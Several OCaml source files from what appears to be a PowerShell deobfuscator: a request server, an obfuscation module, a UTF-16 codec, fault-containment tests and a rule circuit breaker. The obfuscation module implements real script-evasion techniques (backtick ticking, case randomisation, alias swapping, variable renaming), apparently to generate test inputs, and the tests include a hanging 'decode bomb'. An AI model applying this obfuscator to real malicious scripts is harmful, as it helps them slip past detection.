                 structured error, nothing more — and, as a containment
                 event, triggers a flight-recorder dump *)
              T.Metrics.incr m_queue_faults;
              ignore (T.Flight.dump ~reason:"chaos-queue-fault" ());
              send conn
                (error_json ~id ~kind:"queue-fault"
                   ~detail:(Printexc.to_string e))
          | () ->
              if not (Pool.Service.submit service req) then
                send conn
                  (overloaded_json ~id ~depth:(Pool.Service.depth service)
                     ~reason:"queue")
          end)
      | other ->
          send conn
            (error_json ~id ~kind:"bad-request" ~detail:("unknown op: " ^ other))
    end
  in
  let read_conn conn =
    match Chaos.probe "serve.read" with
    | exception _ ->
        (* contained: no bytes were consumed, so the request is intact and
           select re-fires next round — delayed, not lost *)
        T.Metrics.incr m_read_faults
    | () -> (
        let bytes = Bytes.create 65536 in
        match Unix.read conn.fd bytes 0 (Bytes.length bytes) with
        | exception Unix.Unix_error _ -> close_conn conn
        | 0 -> close_conn conn
        | n ->
            conn.pending <- conn.pending ^ Bytes.sub_string bytes 0 n;
            let rec drain_lines () =
              match String.index_opt conn.pending '\n' with
              | Some i ->
                  let line = String.sub conn.pending 0 i in
                  conn.pending <-
                    String.sub conn.pending (i + 1)
                      (String.length conn.pending - i - 1);
                  process_line conn line;
                  drain_lines ()
              | None ->
                  if String.length conn.pending > cfg.max_request_bytes then begin
                    incr seq;
                    send conn
                      (error_json ~id:(string_of_int !seq) ~kind:"too-large"
                         ~detail:
                           (Printf.sprintf "request line exceeds %d bytes"
                              cfg.max_request_bytes));
                    close_conn conn
                  end
            in
            drain_lines ())
  in
  T.Log.info (fun () -> "serving on " ^ bind_to_string cfg.bind);
  while not (Atomic.get stop) do
    let fds =
      listen_fd :: Hashtbl.fold (fun fd _ acc -> fd :: acc) conns []
    in
    match Unix.select fds [] [] 0.05 with
    | exception Unix.Unix_error (Unix.EINTR, _, _) -> ()
    | ready, _, _ ->
        List.iter
          (fun fd ->
            if Atomic.get stop then ()
            else if fd = listen_fd then accept_new ()
            else
              match Hashtbl.find_opt conns fd with
              | Some conn -> read_conn conn
              | None -> ())
          ready
  done;
  (* graceful drain: stop accepting and reading (the loop above is done),
     finish everything already queued — each request bounded by its own
     admission-time deadline — then flush telemetry and release sockets *)
  T.Log.info (fun () ->
      Printf.sprintf "draining: %d queued, %d in flight"
        (Pool.Service.depth service)
        (Pool.Service.inflight service));
  (try Unix.close listen_fd with Unix.Unix_error _ -> ());
  Pool.Service.shutdown service;
  (* the quarantine flag is process-global: restore the disabled default
     so an embedding process (tests, benches) gets batch semantics back *)
  Quarantine.set_enabled false;
  (match cfg.metrics_out with
  | None -> ()
  | Some path ->
      ignore
        (Guard.protect (fun () ->
             Out_channel.with_open_bin path (fun oc ->
                 Out_channel.output_string oc
                   (T.Metrics.snapshot_to_json (T.Metrics.snapshot ()));
                 Out_channel.output_char oc '\n'))));
  T.Log.info (fun () ->
      Printf.sprintf "drained: %d request(s) served, %d shed, %d error(s)"
        (T.Metrics.counter_value m_requests)
        (T.Metrics.counter_value m_shed)
        (T.Metrics.counter_value m_errors));
  Hashtbl.iter (fun _ conn -> conn.closed <- true;
                 try Unix.close conn.fd with Unix.Unix_error _ -> ()) conns;
  Hashtbl.reset conns;
  (match cfg.bind with
  | Unix_sock path -> (try Sys.remove path with Sys_error _ -> ())
  | Tcp _ -> ());
  (* only now stop the metrics listener: it kept serving scrapes through
     the whole drain above; release its socket last *)
  Atomic.set metrics_stop true;
  (match metrics_listener with
  | None -> ()
  | Some (addr, d) ->
      Domain.join d;
      (match addr with
      | Unix_sock path -> (try Sys.remove path with Sys_error _ -> ())
      | Tcp _ -> ()));
  0

(* the loop is expected total; this backstop turns an unexpected listener
   crash into exit 1 with the sockets released instead of a raw exception *)
let serve_total cfg stop listen_fd =
  try serve_loop cfg stop listen_fd
  with e ->
    T.Log.error (fun () -> "serve loop crashed: " ^ Printexc.to_string e);
    (try Unix.close listen_fd with Unix.Unix_error _ -> ());
    (match cfg.bind with
    | Unix_sock path -> (try Sys.remove path with Sys_error _ -> ())
    | Tcp _ -> ());
    1

(* ---------- lifecycle ---------- *)

type server = { s_stop : bool Atomic.t; s_domain : int Domain.t }

let start cfg =
  match open_socket cfg.bind with
  | Error e -> Error e
  | Ok listen_fd ->
      let stop = Atomic.make false in
      Ok
        { s_stop = stop;
          s_domain = Domain.spawn (fun () -> serve_total cfg stop listen_fd) }

let stop s = Atomic.set s.s_stop true
let wait s = Domain.join s.s_domain

let run cfg =
  match open_socket cfg.bind with
  | Error e ->
      T.Log.error (fun () -> e);
      prerr_endline ("serve: " ^ e);
      1
  | Ok listen_fd ->
      let stop = Atomic.make false in
      let request_stop _ = Atomic.set stop true in
      (try
         Sys.set_signal Sys.sigterm (Sys.Signal_handle request_stop);
         Sys.set_signal Sys.sigint (Sys.Signal_handle request_stop)
       with Invalid_argument _ | Sys_error _ -> ());
      serve_total cfg stop listen_fd
