(** L1 obfuscation: ticking, whitespacing, random case, random names,
    aliases.  All operate on the token stream and rebuild the script with
    in-place patches, so they never break syntax. *)

open Pscommon
module T = Pslex.Token

let patch_tokens src edits = Patch.apply src edits

let tokenize_or_self src f =
  match Pslex.Lexer.tokenize src with
  | Ok toks -> f toks
  | Error _ -> src

(* escape-sequence letters a backtick must not precede *)
let unsafe_tick_follower c =
  match Char.lowercase_ascii c with
  | 'n' | 't' | 'r' | '0' | 'a' | 'b' | 'f' | 'v' | 'u' | 'e' -> true
  | _ -> false

let tick_word rng word =
  if String.length word < 3 then word
  else begin
    let buf = Buffer.create (String.length word + 4) in
    String.iteri
      (fun i c ->
        if
          i > 0
          && (not (unsafe_tick_follower c))
          && c <> '`' && c <> '\''
          && Rng.chance rng 0.3
        then Buffer.add_char buf '`';
        Buffer.add_char buf c)
      word;
    Buffer.contents buf
  end

let ticking rng src =
  tokenize_or_self src (fun toks ->
      let edits =
        List.filter_map
          (fun t ->
            match t.T.kind with
            | T.Command when not (String.contains t.T.text '`') ->
                let ticked = tick_word rng t.T.text in
                if ticked = t.T.text then None
                else Some (Patch.edit t.T.extent ticked)
            | _ -> None)
          toks
      in
      patch_tokens src edits)

let random_case_word rng word =
  String.map
    (fun c ->
      if Rng.bool rng then Char.uppercase_ascii c else Char.lowercase_ascii c)
    word

let random_case rng src =
  tokenize_or_self src (fun toks ->
      let edits =
        List.filter_map
          (fun t ->
            match t.T.kind with
            | T.Command | T.Keyword | T.Member | T.Command_parameter
            | T.Type_name | T.Variable ->
                let flipped = random_case_word rng t.T.text in
                if flipped = t.T.text then None
                else Some (Patch.edit t.T.extent flipped)
            | _ -> None)
          toks
      in
      patch_tokens src edits)

let whitespacing rng src =
  tokenize_or_self src (fun toks ->
      (* widen the gaps that already exist between tokens *)
      let buf = Buffer.create (String.length src * 2) in
      let pos = ref 0 in
      List.iter
        (fun t ->
          let gap_start = !pos and gap_stop = t.T.extent.Extent.start in
          if gap_stop > gap_start then begin
            let gap = String.sub src gap_start (gap_stop - gap_start) in
            Buffer.add_string buf gap;
            if
              String.for_all (fun c -> c = ' ' || c = '\t') gap
              && String.length gap > 0 && Rng.chance rng 0.6
            then Buffer.add_string buf (String.make (Rng.int_in rng 1 5) ' ')
          end;
          Buffer.add_string buf t.T.text;
          (match t.T.kind with
          | T.Statement_separator | T.Operator when Rng.chance rng 0.4 ->
              Buffer.add_string buf (String.make (Rng.int_in rng 1 3) ' ')
          | _ -> ());
          pos := t.T.extent.Extent.stop)
        toks;
      Buffer.add_substring buf src !pos (String.length src - !pos);
      Buffer.contents buf)

let alias_sub rng src =
  tokenize_or_self src (fun toks ->
      let edits =
        List.filter_map
          (fun t ->
            match t.T.kind with
            | T.Command -> (
                match Pslex.Aliases.canonical_case t.T.content with
                | Some canonical -> (
                    match Pslex.Aliases.aliases_of canonical with
                    | [] -> None
                    | aliases -> Some (Patch.edit t.T.extent (Rng.pick rng aliases)))
                | None -> None)
            | _ -> None)
          toks
      in
      patch_tokens src edits)

(* names that must never be renamed *)
let reserved_variables =
  List.fold_left
    (fun acc v -> Strcase.Set.add v acc)
    Strcase.Set.empty
    [ "_"; "$"; "?"; "^"; "args"; "input"; "true"; "false"; "null"; "pshome";
      "shellid"; "home"; "pid"; "pwd"; "error"; "matches"; "myinvocation";
      "host"; "profile"; "psversiontable"; "executioncontext";
      "verbosepreference"; "erroractionpreference"; "psculture"; "ofs" ]

let renameable name =
  (not (Strcase.Set.mem name reserved_variables))
  && (not (String.contains name ':'))
  && String.for_all
       (fun c ->
         match c with
         | 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' | '_' -> true
         | _ -> false)
       name

let random_name rng src =
  tokenize_or_self src (fun toks ->
      (* collect variable names, assign random replacements consistently *)
      let mapping = Hashtbl.create 8 in
      List.iter
        (fun t ->
          match t.T.kind with
          | T.Variable when renameable t.T.content ->
              let key = Strcase.lower t.T.content in
              if not (Hashtbl.mem mapping key) then
                Hashtbl.replace mapping key (Rng.ident rng ~min_len:5 ~max_len:10)
          | _ -> ())
        toks;
      let edits =
        List.filter_map
          (fun t ->
            match t.T.kind with
            | T.Variable when renameable t.T.content -> (
                match Hashtbl.find_opt mapping (Strcase.lower t.T.content) with
                | Some fresh -> Some (Patch.edit t.T.extent ("$" ^ fresh))
                | None -> None)
            | T.String_double ->
                (* rename interpolated variables inside double-quoted
                   strings; whole identifiers only, or "$c2" renamed to
                   "$ISyb5" would then match a later "$i" pass *)
                let is_ident c =
                  match c with
                  | 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' | '_' -> true
                  | _ -> false
                in
                let text = ref t.T.text in
                Hashtbl.iter
                  (fun old fresh ->
                    text :=
                      Strcase.replace_word ~needle:("$" ^ old)
                        ~replacement:("$" ^ fresh) ~is_word_char:is_ident !text)
                  mapping;
                if !text = t.T.text then None else Some (Patch.edit t.T.extent !text)
            | _ -> None)
          toks
      in
      patch_tokens src edits)
