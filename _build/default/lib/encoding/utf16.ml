let encode s =
  String.init (2 * String.length s) (fun i ->
      if i mod 2 = 0 then s.[i / 2] else '\000')

let decode_units s n =
  String.init n (fun i ->
      let lo = Char.code s.[2 * i] and hi = Char.code s.[(2 * i) + 1] in
      if hi = 0 then Char.chr lo else '?')

let decode s =
  let len = String.length s in
  if len mod 2 <> 0 then Error "utf16: odd number of bytes"
  else Ok (decode_units s (len / 2))

let decode_lossy s = decode_units s (String.length s / 2)

let looks_utf16 s =
  let len = String.length s in
  len >= 4 && len mod 2 = 0
  &&
  let units = len / 2 in
  let zeros = ref 0 in
  for i = 0 to units - 1 do
    if s.[(2 * i) + 1] = '\000' then incr zeros
  done;
  float_of_int !zeros >= 0.8 *. float_of_int units
