(* Tests for the fault-containment layer: Guard.protect, cooperative
   deadlines, the guarded engine pipeline, and crash-isolated batch runs.
   Adversarial inputs — deeply nested scripts, decode bombs, random bytes —
   must come back as structured failures, never as uncaught exceptions. *)

open Pscommon

let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

(* ---------- Guard primitives ---------- *)

let test_protect_value () =
  check_b "ok result" true (Guard.protect (fun () -> 41 + 1) = Ok 42)

let test_protect_stack_overflow () =
  let rec boom n = 1 + boom (n + 1) in
  check_b "stack overflow contained" true
    (Guard.protect (fun () -> boom 0) = Error Guard.Stack_exhausted)

let test_protect_stray_exception () =
  match Guard.protect (fun () -> failwith "boom") with
  | Error (Guard.Unexpected _) -> ()
  | _ -> Alcotest.fail "expected Unexpected"

let test_protect_expired_deadline () =
  check_b "expired deadline never runs f" true
    (Guard.protect ~deadline:(Guard.now () -. 1.0) (fun () -> 1)
    = Error Guard.Timeout)

let test_protect_output_cap () =
  check_b "oversized output" true
    (Guard.protect ~max_output_bytes:4 ~measure:String.length (fun () ->
         "too long")
    = Error Guard.Output_too_large);
  check_b "within cap" true
    (Guard.protect ~max_output_bytes:64 ~measure:String.length (fun () -> "ok")
    = Ok "ok")

let test_protect_nests_ambient () =
  (* inner guard cannot outlive the outer deadline *)
  let r =
    Guard.protect ~deadline:(Guard.now () -. 1.0) (fun () ->
        Guard.protect ~deadline:(Guard.deadline_after 60.0) (fun () -> 1))
  in
  check_b "outer expiry wins" true (r = Error Guard.Timeout);
  check_b "ambient restored" true (Guard.ambient_deadline () = Guard.no_deadline)

let test_interpreter_limit_classified () =
  check_b "Limit_exceeded maps into taxonomy" true
    (Guard.protect (fun () -> raise (Pseval.Env.Limit_exceeded "steps"))
    = Error (Guard.Interpreter_limit "steps"))

let test_oom_classified () =
  (* memory exhaustion gets its own taxon, distinct from Unexpected *)
  check_b "Out_of_memory contained as Oom" true
    (Guard.protect (fun () -> raise Out_of_memory) = Error Guard.Oom);
  check_b "oom label" true (Guard.failure_label Guard.Oom = "out-of-memory")

(* ---------- adversarial engine inputs ---------- *)

let deep_nesting n =
  String.concat ""
    [ String.concat "" (List.init n (fun _ -> "(")); "1";
      String.concat "" (List.init n (fun _ -> ")")) ]

let test_deep_nesting_total () =
  (* 30k nesting levels blow a fixed-size recursive-descent stack; on
     OCaml 5's growable stacks the pipeline instead simplifies the tower to
     its payload.  Either way run_guarded must be total: a clean simplified
     result, or a structured parse/stack failure with the input unchanged *)
  let src = deep_nesting 30_000 in
  let guarded = Deobf.Engine.run_guarded ~timeout_s:30.0 src in
  let output = guarded.Deobf.Engine.result.Deobf.Engine.output in
  match guarded.Deobf.Engine.failures with
  | [] -> check_b "tower simplified" true (String.trim output = "1")
  | failures ->
      check_b "input returned unchanged" true (String.equal output src);
      List.iter
        (fun (site : Deobf.Engine.failure_site) ->
          check_b "taxonomy is parse/stack/timeout" true
            (match site.failure with
            | Guard.Parse_failure | Guard.Stack_exhausted | Guard.Timeout ->
                true
            | _ -> false))
        failures

let bomb_options =
  (* a step budget high enough that only the wall clock can stop the loop *)
  { Deobf.Engine.default_options with
    recovery =
      { Deobf.Recover.default_options with
        piece_step_budget = 1_000_000_000;
        piece_timeout_s = 60.0 } }

(* an infinite decode-style loop; it must be variable-free, because a piece
   reading (or even assigning) an untraced variable is never invoked *)
let decode_bomb = "$x = $(while (1 -lt 2) { 1 }; 'done')"

let test_decode_bomb_deadline () =
  let timeout_s = 0.4 in
  let started = Guard.now () in
  let guarded = Deobf.Engine.run_guarded ~options:bomb_options ~timeout_s decode_bomb in
  let elapsed = Guard.now () -. started in
  check_b "timeout recorded" true
    (List.exists
       (fun (s : Deobf.Engine.failure_site) -> s.failure = Guard.Timeout)
       guarded.Deobf.Engine.failures);
  check_b "deadline respected within tolerance" true (elapsed < timeout_s +. 2.0)

let test_string_bomb_capped () =
  (* exponential string growth must stop at max_string_bytes, on steps, or on
     the deadline — contained either way *)
  let src = "$s = 'aaaaaaaa'; $r = $(foreach ($i in 1..64) { $s = $s + $s }; $s)" in
  let guarded = Deobf.Engine.run_guarded ~options:bomb_options ~timeout_s:5.0 src in
  check_b "output bounded" true
    (String.length guarded.Deobf.Engine.result.Deobf.Engine.output
    <= 32 * 1024 * 1024)

let prop_random_bytes_total =
  QCheck.Test.make ~name:"guard: run_guarded total on random bytes" ~count:300
    QCheck.(string_of_size Gen.(int_range 0 120))
    (fun s ->
      let guarded = Deobf.Engine.run_guarded ~timeout_s:10.0 s in
      (* a structured verdict either way: clean run, partial-parse recovery
         of at least one region, or unchanged input with recorded failure *)
      guarded.Deobf.Engine.failures = []
      || guarded.Deobf.Engine.regions_recovered >= 1
      || String.equal guarded.Deobf.Engine.result.Deobf.Engine.output s)

let prop_mutants_total =
  QCheck.Test.make ~name:"guard: run_guarded total on obfuscated mutants"
    ~count:60
    QCheck.(pair small_nat small_nat)
    (fun (seed, layers) ->
      let rng = Rng.of_int (seed + 1) in
      let src =
        Obfuscator.Obfuscate.multilayer rng
          ((layers mod 3) + 1)
          "Write-Host 'payload'; $u = 'http://example.com/a.ps1'"
      in
      let guarded = Deobf.Engine.run_guarded ~timeout_s:20.0 src in
      String.length guarded.Deobf.Engine.result.Deobf.Engine.output >= 0)

(* ---------- degradation boundaries ---------- *)

let test_max_depth_boundary () =
  let rng = Rng.of_int 7 in
  let src = Obfuscator.Obfuscate.multilayer rng 3 "Write-Host 'deep'" in
  let depth0 =
    { Deobf.Engine.default_options with
      recovery = { Deobf.Recover.default_options with max_depth = 0 } }
  in
  let r0 = Deobf.Engine.run ~options:depth0 src in
  check_i "max_depth 0 unwraps nothing" 0
    r0.Deobf.Engine.stats.Deobf.Recover.layers_unwrapped;
  let r = Deobf.Engine.run src in
  check_b "default depth unwraps layers" true
    (r.Deobf.Engine.stats.Deobf.Recover.layers_unwrapped >= 1)

let test_budget_exhaustion_partial () =
  (* a starved step budget degrades pieces but the run still completes and
     reports the attempts *)
  let starved =
    { Deobf.Engine.default_options with
      recovery = { Deobf.Recover.default_options with piece_step_budget = 1 } }
  in
  let rng = Rng.of_int 11 in
  let src = Obfuscator.Obfuscate.multilayer rng 2 "Write-Host 'x'" in
  let guarded = Deobf.Engine.run_guarded ~options:starved ~timeout_s:20.0 src in
  check_b "run completes" true
    (String.length guarded.Deobf.Engine.result.Deobf.Engine.output > 0);
  check_b "pieces were attempted" true
    (guarded.Deobf.Engine.result.Deobf.Engine.stats.Deobf.Recover.pieces_attempted
    >= 1)

(* ---------- satellite regressions ---------- *)

let test_iterations_actual_count () =
  (* a trivial script converges far below the fixpoint bound; the result
     must report the actual pass count, not max_iterations *)
  let r = Deobf.Engine.run "Write-Host 'hello'" in
  check_b "iterations >= 1" true (r.Deobf.Engine.iterations >= 1);
  check_b "iterations below bound" true
    (r.Deobf.Engine.iterations
    < Deobf.Engine.default_options.Deobf.Engine.max_iterations)

let test_write_error_renamed () =
  (* "-e" appearing as command text (Write-Error) must not trip the
     residual-encoded check: decided on tokens, not substrings *)
  let r = Deobf.Engine.run "$qzxwvjkp = 'v'; Write-Error $qzxwvjkp" in
  check_b "pipeline ran to completion" true
    (Psparse.Parser.is_valid_syntax r.Deobf.Engine.output)

let test_run_phases_consistent () =
  let src = "$a = ('Wr'+'ite'+'-Host'); & $a 'hi'" in
  let phases = Deobf.Engine.run_phases src in
  check_i "four phases" 4 (List.length phases);
  let final = List.nth phases 3 in
  check_b "final phase equals run output" true
    (String.equal final.Deobf.Engine.text (Deobf.Engine.run src).Deobf.Engine.output)

(* ---------- sandbox containment ---------- *)

let test_sandbox_contained () =
  let report = Sandbox.run ~timeout_s:0.4 "while (1 -lt 2) { $z = 1 }" in
  check_b "sandbox contains the hang" true (report.Sandbox.error <> None)

let test_sandbox_deep_nesting () =
  (* totality: either the tower evaluates cleanly or the failure is
     contained in the report — never an escaping exception *)
  let report = Sandbox.run (deep_nesting 30_000) in
  check_b "sandbox survives deep nesting" true
    (match (report.Sandbox.error, report.Sandbox.failure) with
    | None, None -> report.Sandbox.output <> []
    | _ -> true)

(* ---------- crash-isolated batch ---------- *)

let with_temp_dir f =
  let dir =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "guard-batch-%d" (Unix.getpid ()))
  in
  let rec rm path =
    if Sys.is_directory path then begin
      Array.iter (fun n -> rm (Filename.concat path n)) (Sys.readdir path);
      Sys.rmdir path
    end
    else Sys.remove path
  in
  if Sys.file_exists dir then rm dir;
  Sys.mkdir dir 0o755;
  Fun.protect ~finally:(fun () -> if Sys.file_exists dir then rm dir) (fun () -> f dir)

let write path content =
  Out_channel.with_open_bin path (fun oc -> Out_channel.output_string oc content)

let test_batch_isolates_hanging_sample () =
  with_temp_dir (fun dir ->
      let in_dir = Filename.concat dir "in" in
      let out_dir = Filename.concat dir "out" in
      Sys.mkdir in_dir 0o755;
      write (Filename.concat in_dir "a_clean.ps1") "Write-Host 'hello'";
      write (Filename.concat in_dir "b_bomb.ps1") decode_bomb;
      write (Filename.concat in_dir "c_deep.ps1") (deep_nesting 30_000);
      let started = Guard.now () in
      let summary =
        Deobf.Batch.run_dir ~options:bomb_options ~timeout_s:2.0 ~out_dir in_dir
      in
      let elapsed = Guard.now () -. started in
      check_i "all files processed" 3 summary.Deobf.Batch.total;
      check_b "batch not stalled by the bomb" true (elapsed < 15.0);
      let outcome name =
        List.find
          (fun (o : Deobf.Batch.outcome) ->
            Filename.basename o.Deobf.Batch.file = name)
          summary.Deobf.Batch.outcomes
      in
      check_b "clean sample ran clean" true
        ((outcome "a_clean.ps1").Deobf.Batch.failures = []);
      check_b "bomb contained by its deadline" true
        (List.exists
           (fun (s : Deobf.Engine.failure_site) -> s.failure = Guard.Timeout)
           (outcome "b_bomb.ps1").Deobf.Batch.failures);
      check_b "deep sample processed after the bomb" true
        (String.length (outcome "c_deep.ps1").Deobf.Batch.file > 0);
      check_b "recovered scripts written" true
        (Sys.file_exists (Filename.concat out_dir "a_clean.ps1"));
      check_b "per-file failure report written" true
        (Sys.file_exists (Filename.concat out_dir "b_bomb.ps1.failures.json"));
      check_b "batch report written" true
        (Sys.file_exists (Filename.concat out_dir "batch_report.json"));
      let report_json =
        In_channel.with_open_bin
          (Filename.concat out_dir "batch_report.json")
          In_channel.input_all
      in
      check_b "report carries the taxonomy" true
        (Strcase.contains ~needle:"\"timeout\"" report_json);
      check_b "report carries wall time" true
        (Strcase.contains ~needle:"\"wall_ms\"" report_json))

let test_batch_unreadable_file () =
  let summary = Deobf.Batch.run_files [ "/nonexistent/guard-test.ps1" ] in
  check_i "one outcome" 1 summary.Deobf.Batch.total;
  check_i "recorded as degraded" 1 summary.Deobf.Batch.degraded

let suite =
  [
    Alcotest.test_case "protect value" `Quick test_protect_value;
    Alcotest.test_case "protect stack overflow" `Quick test_protect_stack_overflow;
    Alcotest.test_case "protect stray exception" `Quick test_protect_stray_exception;
    Alcotest.test_case "protect expired deadline" `Quick test_protect_expired_deadline;
    Alcotest.test_case "protect output cap" `Quick test_protect_output_cap;
    Alcotest.test_case "protect nests ambient" `Quick test_protect_nests_ambient;
    Alcotest.test_case "interpreter limit classified" `Quick
      test_interpreter_limit_classified;
    Alcotest.test_case "oom classified" `Quick test_oom_classified;
    Alcotest.test_case "deep nesting total" `Quick test_deep_nesting_total;
    Alcotest.test_case "decode bomb deadline" `Quick test_decode_bomb_deadline;
    Alcotest.test_case "string bomb capped" `Quick test_string_bomb_capped;
    QCheck_alcotest.to_alcotest prop_random_bytes_total;
    QCheck_alcotest.to_alcotest prop_mutants_total;
    Alcotest.test_case "max_depth boundary" `Quick test_max_depth_boundary;
    Alcotest.test_case "budget exhaustion partial" `Quick
      test_budget_exhaustion_partial;
    Alcotest.test_case "iterations actual count" `Quick test_iterations_actual_count;
    Alcotest.test_case "write-error renamed" `Quick test_write_error_renamed;
    Alcotest.test_case "run_phases consistent" `Quick test_run_phases_consistent;
    Alcotest.test_case "sandbox contained" `Quick test_sandbox_contained;
    Alcotest.test_case "sandbox deep nesting" `Quick test_sandbox_deep_nesting;
    Alcotest.test_case "batch isolates hanging sample" `Quick
      test_batch_isolates_hanging_sample;
    Alcotest.test_case "batch unreadable file" `Quick test_batch_unreadable_file;
  ]
