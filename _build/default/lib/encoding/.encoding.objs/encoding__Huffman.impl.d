lib/encoding/huffman.ml: Array Bitstream Int List
