(** Adaptive rule quarantine: per-rule circuit breakers fed by verify
    rollbacks.  See the interface for the contract. *)

open Pscommon

type state = Closed | Open | Half_open

let state_name = function
  | Closed -> "closed"
  | Open -> "open"
  | Half_open -> "half-open"

type breaker = {
  mutable br_state : state;
  mutable br_rollbacks : float list;  (* rollback timestamps, newest first *)
  mutable br_cooldown_s : float;  (* current open-interval (doubles) *)
  mutable br_reopen_at : float;  (* epoch when a half-open probe may run *)
  mutable br_probing : bool;  (* a half-open probe request is in flight *)
  mutable br_trips : int;
}

(* configuration — atomics so serve flags can set them after module init *)
let cfg_k = Atomic.make 3
let cfg_window_s = Atomic.make 300.0
let cfg_cooldown_s = Atomic.make 30.0
let enabled_flag = Atomic.make false

let set_enabled b = Atomic.set enabled_flag b
let enabled () = Atomic.get enabled_flag

let configure ?k ?window_s ?cooldown_s () =
  (match k with Some k -> Atomic.set cfg_k (max 1 k) | None -> ());
  (match window_s with
  | Some w -> Atomic.set cfg_window_s (Float.max 1.0 w)
  | None -> ());
  match cooldown_s with
  | Some c -> Atomic.set cfg_cooldown_s (Float.max 0.01 c)
  | None -> ()

let m_trips = Telemetry.Metrics.counter "quarantine.trips"
let m_skipped = Telemetry.Metrics.counter "quarantine.skipped"
let m_probes = Telemetry.Metrics.counter "quarantine.probes"
let m_readmitted = Telemetry.Metrics.counter "quarantine.readmitted"
let m_open = Telemetry.Metrics.gauge "quarantine.open_rules"

(* process-global registry: rule name -> breaker.  Rules are the
   transform-attribution names ("recover.piece", "token.decode",
   "simplify.paren", "engine.finalize") — a handful, so one mutex. *)
let mu = Mutex.create ()
let breakers : (string, breaker) Hashtbl.t = Hashtbl.create 16

let locked f =
  Mutex.lock mu;
  Fun.protect ~finally:(fun () -> Mutex.unlock mu) f

let get_locked rule =
  match Hashtbl.find_opt breakers rule with
  | Some b -> b
  | None ->
      let b =
        { br_state = Closed; br_rollbacks = []; br_cooldown_s = 0.0;
          br_reopen_at = 0.0; br_probing = false; br_trips = 0 }
      in
      Hashtbl.add breakers rule b;
      b

let open_count_locked () =
  Hashtbl.fold
    (fun _ b acc -> if b.br_state <> Closed then acc + 1 else acc)
    breakers 0

let refresh_gauge_locked () =
  Telemetry.Metrics.set m_open (open_count_locked ())

(* ---------- per-request decision cache ---------- *)

(* A request must see a {e stable} rule set: the verify gate reruns the
   engine with suppressions, and a breaker flipping mid-request would make
   the rerun diverge from the original for reasons unrelated to the
   suppression under test.  So the first [admits] for a rule in a request
   fixes the answer for the rest of the request (DLS — requests are
   domain-local), and half-open probe admissions are remembered so
   [end_request] can close or re-open the breaker on the probe's verdict. *)
type request_ctx = {
  decisions : (string, bool) Hashtbl.t;
  mutable probed : string list;  (* rules this request is probing *)
}

let ctx_key : request_ctx option ref Domain.DLS.key =
  Domain.DLS.new_key (fun () -> ref None)

let begin_request () =
  if enabled () then
    Domain.DLS.get ctx_key :=
      Some { decisions = Hashtbl.create 8; probed = [] }

let abort_request () = Domain.DLS.get ctx_key := None

(* the admission decision proper, under the registry lock *)
let decide_locked ctx rule ~now =
  let b = get_locked rule in
  match b.br_state with
  | Closed -> true
  | Open ->
      if now >= b.br_reopen_at && not b.br_probing then begin
        (* half-open: this request becomes the probe *)
        b.br_state <- Half_open;
        b.br_probing <- true;
        ctx.probed <- rule :: ctx.probed;
        Telemetry.Metrics.incr m_probes;
        Telemetry.Log.info (fun () ->
            "quarantine half-open probe for rule " ^ rule);
        true
      end
      else begin
        Telemetry.Metrics.incr m_skipped;
        false
      end
  | Half_open ->
      if not b.br_probing then begin
        (* previous probe concluded without a verdict (e.g. the request
           died); take over the probe *)
        b.br_probing <- true;
        ctx.probed <- rule :: ctx.probed;
        Telemetry.Metrics.incr m_probes;
        true
      end
      else begin
        Telemetry.Metrics.incr m_skipped;
        false
      end

let admits ~phase ~kind =
  (not (enabled ()))
  ||
  match !(Domain.DLS.get ctx_key) with
  | None -> true (* no request scope: never restrict *)
  | Some ctx -> (
      let rule = phase ^ "." ^ kind in
      match Hashtbl.find_opt ctx.decisions rule with
      | Some d -> d
      | None ->
          let d =
            locked (fun () ->
                let d = decide_locked ctx rule ~now:(Guard.now ()) in
                refresh_gauge_locked ();
                d)
          in
          Hashtbl.add ctx.decisions rule d;
          d)

(* ---------- verdicts ---------- *)

let record_rollback_locked rule ~now =
  let b = get_locked rule in
  let window = Atomic.get cfg_window_s in
  b.br_rollbacks <-
    now :: List.filter (fun t -> now -. t <= window) b.br_rollbacks;
  match b.br_state with
  | Closed ->
      if List.length b.br_rollbacks >= Atomic.get cfg_k then begin
        b.br_state <- Open;
        b.br_cooldown_s <- Atomic.get cfg_cooldown_s;
        b.br_reopen_at <- now +. b.br_cooldown_s;
        b.br_probing <- false;
        b.br_trips <- b.br_trips + 1;
        Telemetry.Metrics.incr m_trips;
        Telemetry.Log.warn (fun () ->
            Printf.sprintf
              "quarantine tripped for rule %s (%d rollbacks in window)" rule
              (List.length b.br_rollbacks))
      end
  | Half_open ->
      (* the probe's edits were rolled back: the rule is still bad *)
      b.br_state <- Open;
      b.br_cooldown_s <- b.br_cooldown_s *. 2.0;
      b.br_reopen_at <- now +. b.br_cooldown_s;
      b.br_probing <- false;
      Telemetry.Log.warn (fun () ->
          Printf.sprintf "quarantine probe failed for rule %s: cooling %.1fs"
            rule b.br_cooldown_s)
  | Open -> ()

let close_locked rule =
  let b = get_locked rule in
  if b.br_state = Half_open then begin
    b.br_state <- Closed;
    b.br_rollbacks <- [];
    b.br_cooldown_s <- 0.0;
    b.br_probing <- false;
    Telemetry.Metrics.incr m_readmitted;
    Telemetry.Log.info (fun () -> "quarantine re-admitted rule " ^ rule)
  end

let end_request ~rolled_rules =
  match !(Domain.DLS.get ctx_key) with
  | None -> ()
  | Some ctx ->
      Domain.DLS.get ctx_key := None;
      if enabled () then
        locked (fun () ->
            let now = Guard.now () in
            List.iter (fun r -> record_rollback_locked r ~now) rolled_rules;
            (* probes whose rule was NOT rolled back succeeded *)
            List.iter
              (fun r ->
                if not (List.mem r rolled_rules) then close_locked r
                else () (* handled by record_rollback above *))
              ctx.probed;
            (* a probe that never got a verify verdict (rolled_rules came
               from a request that skipped verify) releases the probe slot *)
            List.iter
              (fun r ->
                let b = get_locked r in
                if b.br_state = Half_open then b.br_probing <- false)
              ctx.probed;
            refresh_gauge_locked ())

let snapshot () =
  locked (fun () ->
      Hashtbl.fold
        (fun rule b acc ->
          if b.br_state <> Closed then (rule, state_name b.br_state) :: acc
          else acc)
        breakers []
      |> List.sort compare)

let trips rule =
  locked (fun () ->
      match Hashtbl.find_opt breakers rule with
      | Some b -> b.br_trips
      | None -> 0)

let reset () =
  locked (fun () ->
      Hashtbl.reset breakers;
      refresh_gauge_locked ());
  Domain.DLS.get ctx_key := None
